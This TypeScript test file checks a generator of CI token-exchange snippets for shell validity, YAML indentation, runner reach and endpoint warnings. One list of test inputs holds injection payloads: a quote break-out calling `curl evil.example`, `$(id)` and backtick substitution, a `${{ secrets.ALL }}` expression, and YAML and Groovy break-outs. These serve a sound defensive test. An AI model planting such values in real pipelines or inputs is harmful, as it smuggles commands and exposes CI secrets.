import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import type { Snippet } from '#contract/provider-profiles.ts'
import { writeClientSnippets } from '#server/issuers/profiles/client-snippets.ts'
import { profiles } from '#server/issuers/profiles/profiles.ts'
import { chooseRunner } from '#server/issuers/profiles/warn-about-reach.ts'
import { writeSnippets } from '#server/issuers/profiles/write-snippets.ts'
import { AUDIENCE } from './examples/example.ts'

const request = {
  account: 'sa_1',
  tokenEndpoint: 'https://doorward.acme.example/oauth/token',
  audience: AUDIENCE,
  boundClaims: {},
  runner: 'hosted',
} as const
const hostile = [
  `x'; curl evil.example; '`,
  '"\n  evil: true\n',
  `\${{ secrets.ALL }}`,
  '$(id)`id`',
  "''' + 'x'.execute() + '''",
  '<< pipeline.x >>',
]
const all = [
  ...profiles.flatMap((profile) => writeSnippets(profile, request)),
  ...writeClientSnippets(request),
]

/** The lines that a shell gets: of YAML, what stands below a bar; of Groovy, between the quotes. */
function toScripts({ language, text }: Snippet): readonly string[] {
  if (language === 'shell') return [text]
  if (language === 'groovy') {
    const [, script = ''] = /sh '''\n(.*?)'''/s.exec(text) ?? []
    return [script.replaceAll('\\\\', '\\')]
  }
  return [...text.matchAll(/^( *)[^\n]*\|\n((?:\1 +[^\n]*\n|\n)+)/gm)].map(
    ([, , lines = '']) => lines,
  )
}

describe.each(all.map((snippet) => [snippet.id, snippet] as const))('%s', (_, snippet) => {
  it('is a script that a shell can read', () => {
    for (const script of toScripts(snippet)) {
      expect(() => execFileSync('bash', ['-n'], { input: script, stdio: 'pipe' })).not.toThrow()
    }
  })

  it('is indented as YAML has to be', () => {
    expect(snippet.text).not.toMatch(/\t| +$/m)
    const lines = snippet.language === 'yaml' ? snippet.text.split('\n') : []
    const odd = lines.filter((line) => (/^ */.exec(line)?.[0].length ?? 0) % 2 === 1)
    expect(odd).toEqual([])
  })
})

it('exchanges the token in every script', () => {
  const scripts = all.filter(({ id }) => id !== 'buildkite' && id !== 'terraform').map(toScripts)
  for (const found of scripts) expect(found.join('')).toContain('ACCESS_TOKEN=$(')
})

it('names the service in every script', () => {
  const resource = 'https://billing.acme.example'
  const scripts = [
    ...profiles.flatMap((profile) => writeSnippets(profile, { ...request, resource })),
    ...writeClientSnippets({ ...request, resource }),
  ].filter(({ text }) => text.includes('ACCESS_TOKEN=$('))
  expect(scripts.length).toBeGreaterThan(10)
  for (const { text } of scripts) expect(text).toContain(`--data-urlencode 'resource=${resource}'`)
})

it.each([
  ['http://127.0.0.1:7420/oauth/token', 'same_machine'],
  ['https://localhost/oauth/token', 'same_machine'],
  ['https://10.0.0.7/oauth/token', 'self_hosted'],
  ['https://doorward.lan/oauth/token', 'self_hosted'],
  ['https://doorward.acme.example/oauth/token', 'hosted'],
])('is written for the farthest runner that reaches %s', (tokenEndpoint, runner) => {
  expect(chooseRunner(tokenEndpoint)).toBe(runner)
})

it.each(hostile)('leaves out an audience that could break out: %j', (audience) => {
  const bound = { environment: audience, branchName: audience, step_key: audience, sub: audience }
  for (const profile of profiles) {
    for (const { text, warnings } of writeSnippets(profile, {
      ...request,
      audience,
      boundClaims: bound,
    })) {
      expect(text).not.toContain(audience)
      expect(warnings.join(' ')).toContain('The audience has characters')
    }
  }
})

it.each([
  ['https://doorward.acme.example/oauth/token', 'hosted', 0],
  ['https://10.0.0.7/oauth/token', 'hosted', 1],
  ['https://10.0.0.7/oauth/token', 'self_hosted', 0],
  ['https://doorward.local/oauth/token', 'hosted', 1],
  ['https://doorward/oauth/token', 'hosted', 1],
  ['http://doorward.acme.example/oauth/token', 'hosted', 1],
  ['http://10.0.0.7/oauth/token', 'hosted', 2],
  ['http://127.0.0.1:7420/oauth/token', 'self_hosted', 1],
  ['http://127.0.0.1:7420/oauth/token', 'same_machine', 0],
] as const)('warns of %s for a runner that is %s: %d', (tokenEndpoint, runner, count) => {
  const [snippet] = writeClientSnippets({ ...request, tokenEndpoint, runner })
  expect(snippet?.warnings).toHaveLength(count)
})
